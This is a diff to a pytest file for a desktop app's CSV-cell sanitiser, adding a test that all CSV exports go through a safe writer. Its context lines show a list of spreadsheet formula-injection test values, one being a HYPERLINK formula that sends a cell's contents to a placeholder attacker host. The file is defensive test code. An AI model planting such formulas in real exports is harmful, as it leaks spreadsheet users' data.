@@ -5,9 +5,12 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from pathlib import Path
 
 import pytest
 
+import kcc_desktop
 from kcc_desktop.csv_cells import SafeCsvWriter, csv_line, formula_start, tsv_line
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+SUM(A1:A9)", "-2+3", "@cmd",
@@ -63,3 +66,13 @@ def test_copied_text_gets_the_same_rule(value):
 
 def test_copied_text_keeps_tabs_and_line_breaks_inside_a_cell():
     assert tsv_line(["a\tb", "c\nd", "e\r\nf"]) == "a b\tc d\te f"
+
+
+def test_no_export_writes_csv_around_the_safe_writer():
+    """Every grid's CSV export goes through ``SafeCsvWriter`` (most through ``ui.grid.export_grid_csv``), so a
+    grid added later cannot write formula-like cells raw: nothing else in the app writes with the csv module."""
+    package = Path(kcc_desktop.__file__).parent
+    writes = re.compile(r"csv\.(writer|DictWriter)\(")
+    raw = [str(path.relative_to(package)) for path in sorted(package.rglob("*.py"))
+           if path.name != "csv_cells.py" and writes.search(path.read_text(encoding="utf-8"))]
+    assert raw == []
